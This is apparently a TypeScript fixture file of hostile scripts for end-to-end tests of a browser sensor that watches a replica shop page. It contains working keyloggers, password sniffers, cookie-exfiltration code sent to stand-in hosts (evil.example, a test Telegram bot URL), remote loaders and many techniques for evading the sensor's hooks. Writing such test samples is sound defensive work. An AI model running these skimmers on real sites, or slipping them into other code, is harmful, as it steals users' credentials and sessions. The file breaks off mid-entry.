/**
 * Hostile page-world code for the MAIN-world sensor tests (tests/e2e/sensors-main-*.e2e.ts): each is
 * what a real helper or stealer does, reduced to its behaviour. Served by the replica from the helper's
 * "CDN" (`helper-cdn.test`) and loaded the ways real ones are: a helper extension's MAIN-world content
 * script (`?saq-tag=<name>`), `scripting.executeScript` (`?saq-exec=<name>`, behaviours in the fixture's
 * background), a `javascript:` URL (console/bookmarklet style), or a driver's evaluation.
 */
export const HELPER_CDN = 'helper-cdn.test';
export const TELEGRAM = 'https://api.telegram.org/bot123456:TESTTOKEN/sendMessage';
export const DISCORD_WEBHOOK = 'https://discord.com/api/webhooks/1234/TESTTOKEN';

const ADD_TO_CART = `document.querySelector('[data-action="add-to-cart"]')`;

/** Code an injected inline script runs (the e2e test hashes it to check actor.sha256). */
export const INLINE_AUTOBUY = `${ADD_TO_CART}.click();`;

/**
 * A helper that creates its click first and dispatches it later — 50 ms on, then the same event object
 * again 150 ms after that — each time on an enabled "add to cart". The event's `timeStamp` is its creation
 * time, not the dispatch's: an announcement matched to the dispatch time would miss both.
 */
export const DELAYED_DISPATCH = `(() => {
  const click = new MouseEvent('click', { bubbles: true, cancelable: true });
  const enabled = () =>
    new Promise((resolve) => {
      const look = () => {
        const button = ${ADD_TO_CART};
        if (button && !button.disabled) resolve(button);
        else setTimeout(look, 20);
      };
      look();
    });
  setTimeout(async () => {
    (await enabled()).dispatchEvent(click);
    setTimeout(async () => {
      (await enabled()).dispatchEvent(click);
      window.__redispatched = true;
    }, 150);
  }, 50);
})();`;

/** The inline script a helper inserts after its flood of inline scripts (its SHA-256 must be reported again). */
export const AFTER_INLINE_FLOOD = 'window.__afterInlineFlood = true; /* helper payload */';

/**
 * Statements (in an async function) that connect `pc` to a peer hard-coded in the script, as 2026's WebRTC
 * skimmers did: the peer's address is put into an answer a second connection in the page makes.
 */
export const HARD_CODED_PEER = `const pc = new RTCPeerConnection();
  pc.createDataChannel('loot');
  await pc.setLocalDescription(await pc.createOffer());
  const answerer = new RTCPeerConnection();
  await answerer.setRemoteDescription(pc.localDescription);
  await answerer.setLocalDescription(await answerer.createAnswer());
  const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
  await pc.setRemoteDescription({ type: 'answer', sdp });`;

/**
 * `unsignalled(label, onOpen)`: a data channel from a connection in the page to another standing in for the
 * peer, which never tells it an address: the answer's candidates are cut out and none are trickled. The
 * channel opens on the peer's connectivity checks alone (a peer-reflexive candidate), so the sending side
 * holds no address for where its data goes.
 */
export const UNSIGNALLED_CHANNEL = `const unsignalled = async (label, onOpen) => {
    const out = new RTCPeerConnection();
    const peer = new RTCPeerConnection();
    // The peer hears the page's candidates (trickled once it has the offer); the page never hears the peer's.
    const early = [];
    let offered = false;
    out.onicecandidate = (e) => e.candidate && (offered ? peer.addIceCandidate(e.candidate).catch(() => {}) : early.push(e.candidate));
    const channel = out.createDataChannel(label);
    channel.onopen = () => onOpen(channel);
    await out.setLocalDescription(await out.createOffer());
    await peer.setRemoteDescription(out.localDescription);
    offered = true;
    for (const candidate of early) peer.addIceCandidate(candidate).catch(() => {});
    await peer.setLocalDescription(await peer.createAnswer());
    await out.setRemoteDescription({ type: 'answer', sdp: peer.localDescription.sdp.replace(/a=(?:candidate|end-of-candidates).*\\r\\n/g, '') });
  };`;

/** `frame(name)`: a hidden, named frame showing a shop page of its own, resolved once it has loaded. */
export const SHOP_FRAME = `const frame = (name) => {
    const f = document.createElement('iframe');
    f.name = name;
    f.hidden = true;
    f.src = '/kz/pages/questions';
    document.body.appendChild(f);
    return new Promise((resolve) => (f.onload = () => resolve(f)));
  };`;

/**
 * Page code: gives `frame` a new realm by a srcdoc navigation, and at its load (the first with the srcdoc there:
 * Firefox may load a replacement of a frame's first about:blank document before it) sends the cookie with that
 * realm's fetch, taken by `win` — a frame accessor Saq does not hook.
 */
const sendAtSrcdocLoad = (frame: string, win: string, path: string): string => `let sent = false;
  ${frame}.addEventListener('load', () => {
    const clean = ${win};
    if (sent || clean.location.href !== 'about:srcdoc') return;
    sent = true;
    clean.fetch('https://evil.example/${path}?c=' + encodeURIComponent(document.cookie));
  });
  ${frame}.srcdoc = '<p>reloaded</p>';`;

/**
 * The shop's branches widget, drawn in a srcdoc frame: its own script shows a partner's pages in frames, by `src`,
 * `setAttribute` and markup, then sets `parent[flag]`. The shop's script writes it (BENIGN['srcdoc-widget']), or
 * its HTML holds it (srcdocWidgetPage).
 */
export const srcdocWidgetMarkup = (flag: string): string =>
  '<body><script>' +
  'const map = document.createElement("iframe"); map.src = "https://media.partner.test/map?branch=3"; document.body.append(map);' +
  'const hours = document.createElement("iframe"); document.body.append(hours); hours.setAttribute("src", "https://media.partner.test/hours");' +
  'document.body.insertAdjacentHTML("beforeend", "<iframe src=https://media.partner.test/branches></iframe>");' +
  `parent.${flag} = true;` +
  '</script></body>';

/** A shop page whose own HTML holds the srcdoc widget (no script gives it), with `scripts` after it. */
export const srcdocWidgetPage = (flag: string, scripts = ''): string =>
  '<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body><h1>Ілбіс</h1>' +
  `<iframe title="branches" srcdoc="${srcdocWidgetMarkup(flag).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>` +
  `${scripts}</body></html>`;

/**
 * A srcdoc (as a JS string literal, for a fixture's code) whose own script sends the cookie to evil.example's `path`
 * before the frame's load: the handover cases (sensors-main-tamper.e2e.ts, "still hooks a frame's realm").
 */
const srcdocSendingCookie = (path: string): string =>
  `'<body><script>fetch("https://evil.example/${path}?c=" + encodeURIComponent(document.cookie))<\\/script>'`;

/** The script 'cookie-script-address' loads from an address holding the cookie: sends the cookie on. */
export const COOKIE_ADDRESSED_SCRIPT = `navigator.sendBeacon('https://evil.example/in', document.cookie); window.__nextRan = true;`;

export const MAIN_WORLD_SCRIPTS = {
  /**
   * Scripts inserted empty and given their code afterwards, each a way that ran unreported: an address written
   * as an attribute, and code given to a script in a container off the page, which is then connected.
   */
  'empty-then-filled': `(() => {
  const byAttribute = document.createElement('script');
  document.head.appendChild(byAttribute);
  byAttribute.setAttribute('src', 'https://${HELPER_CDN}/quiet.js');
  const box = document.createElement('div');
  const detached = document.createElement('script');
  box.appendChild(detached);
  detached.text = 'window.__detached = 1';
  document.body.appendChild(box);
  window.__filled = true;
})();`,
  /**
   * SVG scripts, which run when inserted into the page's <svg> as HTML ones do: one loads the CDN's code by
   * `href`, one carries its code inline.
   */
  'svg-scripts': `(() => {
  const SVG = 'http://www.w3.org/2000/svg';
  const svg = document.createElementNS(SVG, 'svg');
  const external = document.createElementNS(SVG, 'script');
  external.setAttribute('href', 'https://${HELPER_CDN}/quiet.js');
  const inline = document.createElementNS(SVG, 'script');
  inline.textContent = 'window.__svgInline = 1';
  svg.append(external, inline);
  document.body.appendChild(svg);
  window.__svgDone = true;
})();`,
  /** Loads its payload as blob: and data: scripts, which no site ships. */
  'blob-data': `(() => {
  const blob = new Blob([${JSON.stringify(INLINE_AUTOBUY)}], { type: 'text/javascript' });
  const fromBlob = document.createElement('script');
  fromBlob.src = URL.createObjectURL(blob);
  document.head.appendChild(fromBlob);
  const fromData = document.createElement('script');
  fromData.src = 'data:text/javascript;base64,' + btoa('window.__helperData = 1;');
  document.head.appendChild(fromData);
})();`,

  /**
   * Sends the cookie from workers, out of the page world's hooks and timeline: a blob: Worker, a blob:
   * SharedWorker, and a data: Worker given as an object whose toString makes the URL. Each posts the cookie
   * to its worker, which fetches it to the sink.
   */
  'worker-send': `(() => {
  const c = encodeURIComponent(document.cookie);
  const code = (name) => "onmessage = (e) => fetch('https://evil.example/" + name + "?c=' + e.data, { mode: 'no-cors' }).catch(() => {});";
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  new Worker(blob(code('worker-blob'))).postMessage(c);
  const shared = new SharedWorker(
    blob("onconnect = (e) => { e.ports[0].onmessage = (m) => fetch('https://evil.example/worker-shared?c=' + m.data, { mode: 'no-cors' }).catch(() => {}); };"),
  );
  shared.port.postMessage(c);
  new Worker({ toString: () => 'data:text/javascript,' + encodeURIComponent(code('worker-data')) }).postMessage(c);
})();`,

  /**
   * Code in frames whose documents are made from strings: a data: frame (opaque origin: no hook reaches it,
   * and its requests are on no view Saq has) given the cookie by postMessage, a blob: frame by setAttribute,
   * and a data: frame from markup; each sends to the sink.
   */
  'frame-code': `(() => {
  const c = encodeURIComponent(document.cookie);
  const page = (name) => '<script>onmessage = (e) => fetch("https://evil.example/' + name + '?c=" + e.data, { mode: "no-cors" }).catch(() => {});<\\/script>';
  const hidden = (frame) => { frame.style.display = 'none'; frame.onload = () => frame.contentWindow.postMessage(c, '*'); return frame; };
  const data = hidden(document.createElement('iframe'));
  data.src = 'data:text/html,' + encodeURIComponent(page('frame-data'));
  const blob = hidden(document.createElement('iframe'));
  blob.setAttribute('src', URL.createObjectURL(new Blob([page('frame-blob')], { type: 'text/html' })));
  document.body.append(data, blob);
  const holder = document.createElement('div');
  holder.innerHTML = '<iframe style="display:none" src="data:text/html,' + encodeURIComponent(page('frame-markup')) + '"></iframe>';
  hidden(holder.firstChild);
  document.body.append(holder);
})();`,

  /**
   * Code run out of sight in nested documents other than frames, each sending the cookie to the sink: an
   * <object> given a data: document by its `data` property, one given a blob: document by setAttribute, an
   * <embed> given a blob: one by its `src` property, an <embed> with a data: src from markup, and a data:
   * document opened by `window.open` into a named frame.
   */
  'object-code': `(() => {
  const c = encodeURIComponent(document.cookie);
  const page = (name) => '<script>fetch("https://evil.example/' + name + '?c=' + c + '", { mode: "no-cors" }).catch(() => {});<\\/script>';
  const blob = (name) => URL.createObjectURL(new Blob([page(name)], { type: 'text/html' }));
  const small = (element) => { element.style.width = element.style.height = '1px'; return element; };
  const byProperty = small(document.createElement('object'));
  byProperty.type = 'text/html';
  byProperty.data = 'data:text/html,' + encodeURIComponent(page('object-data'));
  const byAttribute = small(document.createElement('object'));
  byAttribute.setAttribute('data', blob('object-blob'));
  const embed = small(document.createElement('embed'));
  embed.src = blob('embed-blob');
  const holder = document.createElement('div');
  holder.innerHTML = '<embed type="text/html" style="width:1px;height:1px" src="data:text/html,' + encodeURIComponent(page('embed-markup')) + '">';
  const target = small(document.createElement('iframe'));
  target.name = 'helper-sink-frame';
  document.body.append(byProperty, byAttribute, embed, holder, target);
  window.open('data:text/html,' + encodeURIComponent(page('open-frame')), 'helper-sink-frame');
})();`,

  /**
   * Inserts empty scripts and gives them code by the routes that are neither `text`, `textContent`, a `src`
   * nor an inserted node: markup and text setters on the script, and edits of an empty text node inside it.
   * Each route's code records its name, so the test knows which ran in this browser (`setHTMLUnsafe` and
   * `moveBefore` are newer than some browsers).
   */
  'empty-filled-by-markup': `(() => {
  const code = (route) => 'window.__filledBy = (window.__filledBy || []).concat(' + JSON.stringify(route) + ');';
  const empty = () => { const s = document.createElement('script'); document.head.appendChild(s); return s; };
  const holding = () => {
    const s = document.createElement('script');
    const t = document.createTextNode('');
    s.appendChild(t);
    document.head.appendChild(s);
    return t;
  };
  empty().innerText = code('innerText');
  empty().innerHTML = code('innerHTML');
  const viaUnsafe = empty();
  if (typeof viaUnsafe.setHTMLUnsafe === 'function') viaUnsafe.setHTMLUnsafe(code('setHTMLUnsafe'));
  empty().insertAdjacentText('afterbegin', code('insertAdjacentText'));
  empty().insertAdjacentHTML('beforeend', code('insertAdjacentHTML'));
  holding().data = code('data');
  holding().nodeValue = code('nodeValue');
  holding().textContent = code('textContent-of-text');
  holding().appendData(code('appendData'));
  holding().insertData(0, code('insertData'));
  holding().replaceData(0, 0, code('replaceData'));
  const moved = empty();
  if (typeof moved.moveBefore === 'function') {
    const box = document.createElement('div');
    box.hidden = true;
    document.body.appendChild(box);
    const t = document.createTextNode(code('moveBefore'));
    box.appendChild(t);
    try { moved.moveBefore(t, null); } catch {}
  }
  window.__markupDone = true;
})();`,
  /**
   * Loads its payload as a module with \`import()\`: code from the CDN runs with no script element and no
   * call any hook wraps.
   */
  'dynamic-import': `import('https://${HELPER_CDN}/quiet.js').then(() => { window.__imported = true; });`,
  /** Runs an inline script that deletes itself, then loads a script that removes itself after loading. */
  'self-remove': `(() => {
  const inline = document.createElement('script');
  inline.textContent = 'window.__helperRan = true; document.currentScript.remove();';
  document.head.appendChild(inline);
  const loader = document.createElement('script');
  loader.src = 'https://${HELPER_CDN}/quiet.js';
  loader.onload = () => loader.remove();
  document.head.appendChild(loader);
})();`,
  quiet: `window.__helperQuiet = true;`,

  /**
   * Inline scripts inserted by the rarer DOM routes: replaceChildren, Range.insertNode, a Range's text
   * wrapped into a script by surroundContents, code put by insertNode into a script inserted empty, and append()
   * with a processing instruction named SCRIPT before the script (a node whose name is a script's and no element).
   */
  'odd-insertions': `(() => {
  const code = (tag) => 'window.__odd = (window.__odd || []).concat(' + JSON.stringify(tag) + ');';
  const inline = (tag) => { const s = document.createElement('script'); s.textContent = code(tag); return s; };
  const box = () => { const b = document.createElement('div'); b.hidden = true; document.body.appendChild(b); return b; };
  box().replaceChildren(inline('replaceChildren'));
  const at = document.createRange();
  at.selectNodeContents(box());
  at.insertNode(inline('insertNode'));
  const around = box();
  around.textContent = code('surroundContents');
  const wrap = document.createRange();
  wrap.selectNodeContents(around);
  wrap.surroundContents(document.createElement('script'));
  const empty = document.createElement('script');
  box().appendChild(empty);
  const into = document.createRange();
  into.selectNodeContents(empty);
  into.insertNode(document.createTextNode(code('insertNode-into-empty')));
  box().append(document.createProcessingInstruction('SCRIPT', 'x'), inline('append-behind-pi'));
})();`,

  /**
   * 200 inline scripts of different text in one task (past Saq's hash budget of 64 per kind and actor),
   * then, two seconds later when the budget has refilled, one more.
   */
  'inline-flood': `(() => {
  for (let i = 0; i < 200; i++) {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineFlood = ' + i + ';';
    document.head.appendChild(script);
  }
  setTimeout(() => {
    const script = document.createElement('script');
    script.textContent = ${JSON.stringify(AFTER_INLINE_FLOOD)};
    document.head.appendChild(script);
  }, 2000);
})();`,

  /**
   * The same flood, the last script naming a helper's drop (a code token of SAQ-INJ-006) in a string it never
   * uses: past the hash budget its text is folded with the others' (src/content/main/text-folds.ts).
   */
  // 400 scripts: past the first 64 each actor's hashes refill at 64 a second, so with 200 a loop slowed past a second
  // (Firefox on a loaded CI machine) hashed the last one instead of folding it, and the fold went untested.
  'inline-flood-token': `(() => {
  for (let i = 0; i < 400; i++) {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineFlood = ' + i + (i === 399 ? '; window.__drop = "api.telegram.org/bot";' : ';');
    document.head.appendChild(script);
  }
})();`,

  /**
   * Two inline actors past the hash budget in one task, both still named by the stack: inline script A<n>
   * inserts inline scripts past the budget, then inline script B<n> inserts three more. Both actors' key is
   * `inline|` (the hash goes into the actor later), so both share one hash budget and one fold shape.
   * Saq's budgets are modelled here (src/content/main: stack captures 64 at once and 100 a second; hashes 64 at
   * once and 64 a second per kind and actor), so each round spends the hashes and keeps the captures whatever
   * the timers' lag: a D<n> script spends most of the hashes left (and as many captures), then the clock is
   * waited on until the captures are ahead by a round: A's hashed scripts, ten skipped ones of A's (the hashes
   * refill while A inserts), B's three.
   */
  'inline-actors-flood': `(() => {
  const actor = (tag, n) => {
    const script = document.createElement('script');
    script.textContent = '/* ' + tag + ' */ for (let i = 0; i < ' + n + '; i++) { const c = document.createElement("script"); c.textContent = "window.__inlineActors = \\\\"' + tag + ':" + i + "\\\\";"; document.head.appendChild(c); }';
    document.head.appendChild(script);
  };
  let hashes = 64, captures = 62, last = performance.now(), round = 0;
  const elapse = () => {
    const now = performance.now();
    hashes = Math.min(64, hashes + 0.064 * (now - last));
    captures = Math.min(64, captures + 0.1 * (now - last));
    last = now;
  };
  const step = () => {
    elapse();
    if (hashes >= 8) {
      const n = Math.floor(hashes) - 4;
      actor('D' + round, n);
      hashes -= n;
      captures -= n + 1;
    }
    // The lead can only grow while the captures are below their cap: ~21 at most from here (never spin for ever).
    const until = performance.now() + 1500;
    while (captures - hashes < 20 && performance.now() < until) elapse();
    if (captures - hashes >= 20) {
      const a = Math.floor(hashes) + 10;
      actor('A' + round, a);
      actor('B' + round, 3);
      captures -= a + 5;
      hashes = 0;
      round++;
    }
    if (round < 5) setTimeout(step, 100);
    else window.__inlineActorsRounds = round;
  };
  setTimeout(step, 100);
})();`,

  /** The classic loader: downloads the real code and runs it with new Function. */
  'remote-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function(code)());`,
  payload: `/* helper payload */ ${ADD_TO_CART}.click(); window.__helperPayload = true;`,

  /** The same loader and hidden timer, the code handed over as objects whose toString makes the text. */
  'object-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function({ toString: () => code })());`,
  'object-timer': `setTimeout({ toString: () => atob(${JSON.stringify(Buffer.from(`/* hidden in an object */ window.__objectTimerRan = true;`).toString('base64'))}) }, 0);`,

  /** Hides its code in base64 and runs it through a string timer. */
  'decoded-timer': `setTimeout(atob(${JSON.stringify(Buffer.from(`/* hidden */ ${ADD_TO_CART}.click();`).toString('base64'))}), 0);`,

  /** Reads the password as it is typed and sends it out as an image pixel. */
  'password-pixel': `(() => {
  const field = document.querySelector('[data-role="password"]');
  field.addEventListener('input', () => {
    new Image().src = 'https://evil.example/p.gif?u=' + encodeURIComponent(field.value);
  });
})();`,

  /**
   * Reads the password as it is typed and sends it in the path of its Telegram bot's address; with each key, also
   * a pixel whose path holds nothing typed (the evidence report keeps that path whole).
   */
  'password-path': `(() => {
  const field = document.querySelector('[data-role="password"]');
  field.addEventListener('input', () => {
    fetch('${TELEGRAM}/' + encodeURIComponent(field.value), { mode: 'no-cors' }).catch(() => {});
    new Image().src = 'https://evil.example/ping/v2/status.gif';
  });
})();`,

  /** The same behind a component's open shadow root (SHADOW_LOGIN): the password field is not in the document's tree. */
  'shadow-password-path': `(() => {
  const field = document.querySelector('shop-sign-in').shadowRoot.querySelector('[type="password"]');
  field.addEventListener('input', () => {
    fetch('${TELEGRAM}/' + encodeURIComponent(field.value), { mode: 'no-cors' }).catch(() => {});
  });
  window.__shadowPasswordPath = true;
})();`,

  /**
   * A keylogger on the password field's host, whose closed shadow root (CLOSED_LOGIN) it cannot look into: it
   * keeps each key and sends what it has so far in the path of its bot's address. No field is read.
   */
  'closed-keys-path': `(() => {
  let keys = '';
  const attach = () => {
    const host = document.querySelector('shop-password-field');
    if (!host || !window.__closedLoginReady) return void setTimeout(attach, 20);
    host.addEventListener('keydown', (event) => {
      keys += event.key;
      fetch('${TELEGRAM}/' + encodeURIComponent(keys), { mode: 'no-cors' }).catch(() => {});
    });
    window.__closedKeysPath = true;
  };
  attach();
})();`,

  /**
   * Image pixels that never touch `img.src`: `srcset` on a new Image, and on a <source> in a <picture>
   * (the browser fetches the candidate it picks).
   */
  'srcset-pixel': `(() => {
  const c = encodeURIComponent(document.cookie);
  new Image().srcset = 'https://evil.example/p-srcset.gif?c=' + c;
  const picture = document.createElement('picture');
  const source = document.createElement('source');
  source.srcset = 'https://evil.example/p-source.gif?c=' + c + ' 1x';
  picture.append(source, document.createElement('img'));
  document.body.appendChild(picture);
})();`,

  /** The same through the namespaced attribute API: `setAttributeNS(null, 'src', …)`. */
  'attribute-ns-pixel': `(() => {
  const c = encodeURIComponent(document.cookie);
  document.createElement('img').setAttributeNS(null, 'src', 'https://evil.example/p-ns.gif?c=' + c);
})();`,

  /** The same through Attr nodes: one attached with setAttributeNode, one changed in place by `value`. */
  'attribute-node-pixel': `(() => {
  const c = encodeURIComponent(document.cookie);
  const attr = document.createAttribute('src');
  attr.value = 'https://evil.example/p-node.gif?c=' + c;
  document.createElement('img').setAttributeNode(attr);
  const shown = document.createElement('img');
  shown.setAttribute('src', '/favicon.ico');
  shown.getAttributeNode('src').value = 'https://evil.example/p-attr-value.gif?c=' + c;
})();`,

  /**
   * A srcset with more candidates than Saq parses: 40 low-density decoys, then the pixel at 1x — the
   * one the browser picks.
   */
  'srcset-overflow-pixel': `(() => {
  const c = encodeURIComponent(document.cookie);
  let decoys = '';
  for (let i = 1; i <= 40; i++) decoys += '/favicon.ico?' + i + ' ' + i / 100 + 'x, ';
  new Image().srcset = decoys + 'https://evil.example/p-overflow.gif?c=' + c + ' 1x';
})();`,

  /**
   * Image pixels the HTML parser creates: markup into a detached element (it loads all the same), next to
   * an element, in place of one, into a closed shadow root, through a Range's contextual fragment, as an
   * object whose toString makes the markup, and written into a fresh frame's document (the tag split in two).
   */
  'markup-pixel': `(() => {
  const c = encodeURIComponent(document.cookie);
  const to = (name) => 'https://evil.example/' + name + '.gif?c=' + c;
  document.createElement('div').innerHTML = '<IMG alt="" src="' + to('p-inner') + '">';
  document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="' + to('p-adjacent') + ' 1x"><img alt=""></picture>');
  const spot = document.body.appendChild(document.createElement('span'));
  spot.outerHTML = '<img\\nsrc="' + to('p-outer') + '">';
  const host = document.body.appendChild(document.createElement('div'));
  host.attachShadow({ mode: 'closed' }).innerHTML = '<img src="' + to('p-shadow') + '">';
  document.body.append(document.createRange().createContextualFragment('<img src="' + to('p-fragment') + '">'));
  // Markup that is not a string: the setter converts it, running the page's own toString.
  document.createElement('div').innerHTML = { toString: () => '<img src="' + to('p-object') + '">' };
  // Written into a fresh frame's document, the tag split over two writes.
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.style.display = 'none';
  const written = frame.contentDocument;
  written.open();
  written.write('<body><im');
  written.writeln('g src="' + to('p-write') + '">');
  written.close();
})();`,

  /**
   * Cookies sent to URLs given as objects, which the browser turns into text itself: an object whose
   * toString names the endpoint (fetch, XHR, sendBeacon, WebSocket, img.src, setAttribute), and a URL object
   * whose `href` getter the page rewrote to name the shop (its native toString still names the endpoint).
   */
  'object-urls': `(() => {
  const c = encodeURIComponent(document.cookie);
  const at = (name) => ({ toString: () => 'https://evil.example/' + name + '?c=' + c });
  fetch(at('o-fetch'), { method: 'POST', mode: 'no-cors', body: c }).catch(() => {});
  const x = new XMLHttpRequest();
  x.open('POST', at('o-xhr'));
  x.send(c);
  navigator.sendBeacon(at('o-beacon'), c);
  const socket = new WebSocket({ toString: () => 'wss://evil.example/o-socket?c=' + c });
  socket.onerror = () => {};
  new Image().src = at('o-image.gif');
  document.createElement('img').setAttribute('src', at('o-attribute.gif'));
  const lying = new URL('https://evil.example/o-lying-href?c=' + c);
  Object.defineProperty(URL.prototype, 'href', { configurable: true, get: () => location.origin + '/static/app.js' });
  fetch(lying, { mode: 'no-cors' }).catch(() => {});
})();`,

  /**
   * URLs that look like the shop's own paths to a quick test but go elsewhere: `/\\host` (a backslash is a
   * slash to the URL parser) and `/<tab>/host` (tabs are dropped), as an image pixel, a window and a socket.
   */
  'slipped-urls': `(() => {
  const c = encodeURIComponent(document.cookie);
  new Image().src = '/\\\\evil.example/s-backslash.gif?c=' + c;
  new Image().src = '/\\t/evil.example/s-tab.gif?c=' + c;
  const socket = new WebSocket('/\\\\evil.example/s-socket?c=' + c);
  socket.onerror = () => {};
  window.open('/\\n/evil.example/s-window?c=' + c, 'slipped', 'popup');
})();`,

  /**
   * URL and code objects whose toString throws the first time it runs and works after: a wrapper that turns
   * the argument into text before the browser does would see the error, and the browser the URL. Each call
   * must fail as it does without Saq (with the page's error) — or be judged. What happened is left in
   * `window.__throwOnce`.
   */
  'throw-once-urls': `(() => {
  const c = encodeURIComponent(document.cookie);
  const once = (text) => { let calls = 0; return { toString() { if (calls++ === 0) throw new Error('not yet'); return text; } }; };
  const outcome = (window.__throwOnce = {});
  const attempt = (name, act) => {
    try {
      const result = act();
      outcome[name] = 'made';
      if (result && typeof result.then === 'function') result.then(() => (outcome[name] = 'sent'), (e) => (outcome[name] = 'failed: ' + e.message));
    } catch (e) {
      outcome[name] = 'failed: ' + e.message;
    }
  };
  attempt('fetch', () => fetch(once('https://evil.example/t-fetch?c=' + c), { mode: 'no-cors' }));
  attempt('socket', () => new WebSocket(once('wss://evil.example/t-socket?c=' + c)));
  attempt('beacon', () => navigator.sendBeacon(once('https://evil.example/t-beacon?c=' + c), c));
  attempt('timer', () => setTimeout(once('window.__throwOnceRan = true')));
})();`,

  /**
   * Natives the helper binds and hands to a promise and a timer, so that no frame of its own is on the
   * stack when they run: the cookie read, then sent hex-encoded (no secret the network timeline knows) by an
   * image's bound src setter; and add to cart clicked by a bound click().
   */
  'bound-natives': `(() => {
  const readCookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.bind(document);
  const setSrc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set;
  const hex = (text) => Array.from(text, (ch) => ch.charCodeAt(0).toString(16).padStart(2, '0')).join('');
  Promise.resolve()
    .then(readCookie)
    .then((cookie) => setTimeout(setSrc.bind(new Image(), 'https://evil.example/b-bound.gif?d=' + hex(cookie))));
  setTimeout(HTMLElement.prototype.click.bind(${ADD_TO_CART}), 200);
})();`,

  /**
   * Reads the cookie, waits while the shop renews its session (a new anti-forgery token), then sends the value
   * it read in a CSS background: the page's cookie no longer holds it when the load is judged.
   */
  'renewed-token': `(async () => {
  const c = document.cookie;
  window.__tokenRead = true;
  while (!window.__renewed) await new Promise((resolve) => setTimeout(resolve, 50));
  const box = document.createElement('div');
  box.style.backgroundImage = 'url("https://evil.example/r-css.gif?c=' + encodeURIComponent(c) + '")';
  box.textContent = '.';
  document.body.appendChild(box);
})();`,

  /**
   * Reads the cookie only after the shop renewed its session once (so the value is not the one the page
   * started with), waits for a second renewal, then sends the value it read.
   */
  'renewed-twice': `(async () => {
  while (!window.__renewedOnce) await new Promise((resolve) => setTimeout(resolve, 50));
  const c = document.cookie;
  window.__tokenRead = true;
  while (!window.__renewed) await new Promise((resolve) => setTimeout(resolve, 50));
  const box = document.createElement('div');
  box.style.backgroundImage = 'url("https://evil.example/r2-css.gif?c=' + encodeURIComponent(c) + '")';
  box.textContent = '.';
  document.body.appendChild(box);
})();`,

  /**
   * Reads the cookie, reads it again after the shop renewed its session (the same code, a new value), waits
   * for another renewal, then sends the second value.
   */
  'reread-renewed': `(async () => {
  const wait = async (flag) => { while (!window[flag]) await new Promise((resolve) => setTimeout(resolve, 50)); };
  document.cookie;
  window.__firstRead = true;
  await wait('__renewedOnce');
  const c = document.cookie;
  window.__tokenRead = true;
  await wait('__renewed');
  const box = document.createElement('div');
  box.style.backgroundImage = 'url("https://evil.example/r3-css.gif?c=' + encodeURIComponent(c) + '")';
  box.textContent = '.';
  document.body.appendChild(box);
})();`,

  /**
   * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
   * document DOMParser made, media, CSS backgrounds whose URLs hold the cookie in base64, hex or reversed, a frame's `src`
   * and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them from
   * pictures. Also an Attr changed through `nodeValue`, which the attribute hooks see since stop 30.
   */
  'unhooked-pixels': `(() => {
  const c = document.cookie;
  const at = (name) => 'https://evil.example/' + name + '?c=' + encodeURIComponent(c);
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
  image.setAttribute('href', at('u-svg.gif'));
  svg.appendChild(image);
  document.body.appendChild(svg);
  const box = document.createElement('div');
  box.style.backgroundImage = 'url("' + at('u-css.gif') + '")';
  box.textContent = '.';
  document.body.appendChild(box);
  const parsed = new DOMParser().parseFromString('<img src="' + at('u-parsed.gif') + '">', 'text/html');
  document.body.appendChild(parsed.body.firstChild);
  const img = document.createElement('img');
  const attr = document.createAttribute('src');
  img.setAttributeNode(attr);
  attr.nodeValue = at('u-attr.gif');
  document.body.appendChild(img);
  const audio = new Audio();
  audio.preload = 'auto';
  audio.src = at('u-audio.wav');
  const background = (name, data) => {
    const box = document.createElement('div');
    box.style.background = 'url(https://evil.example/' + name + '?d=' + data + ')';
    box.textContent = '.';
    document.body.appendChild(box);
  };
  background('u-b64.gif', btoa(c));
  background('u-hex.gif', Array.from(new TextEncoder().encode(c), (b) => b.toString(16).padStart(2, '0')).join(''));
  background('u-rev.gif', encodeURIComponent([...c].reverse().join('')));
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.src = at('u-frame');
  document.body.appendChild(frame);
  const prefetch = document.createElement('link');
  prefetch.rel = 'prefetch';
  prefetch.href = at('u-prefetch');
  document.head.appendChild(prefetch);
})();`,

  /**
   * Reads the cookie in one script and sends it from another: the helper leaves it in the DOM and inserts an
   * inline script that sends whatever it finds there — code that itself read no cookie — in a URL (fetch)
   * and in a body (sendBeacon).
   */
  /**
   * The readable cookie (the shop's XSRF token) sent in a subdomain of the collector's, which its name server logs:
   * whole in one label by an image, split over two by a fetch.
   */
  'cookie-subdomain': `(() => {
  const token = (/(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie) || [])[1] || 'none';
  new Image().src = 'https://' + token + '.evil.example/p.gif';
  fetch('https://' + token.slice(0, 16) + '.' + token.slice(16) + '.evil.example/c', { mode: 'no-cors' }).catch(() => {});
  // Half in a subdomain, half in the path: neither carries it alone.
  navigator.sendBeacon('https://' + token.slice(0, 16) + '.evil.example/b/' + token.slice(16));
})();`,

  /**
   * Loads its next script from an address that carries the cookie (the request is the theft); that script, served
   * under `https://evil.example/k/*` (COOKIE_ADDRESSED_SCRIPT), sends the cookie on. Its address is the name of
   * every act it does, and the `src` of its insertion.
   */
  'cookie-script-address': `(() => {
  const token = (/(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie) || [])[1] || 'none';
  const next = document.createElement('script');
  next.src = 'https://evil.example/k/' + token + '/next.js';
  document.head.appendChild(next);
})();`,

  'relayed-cookie': `(() => {
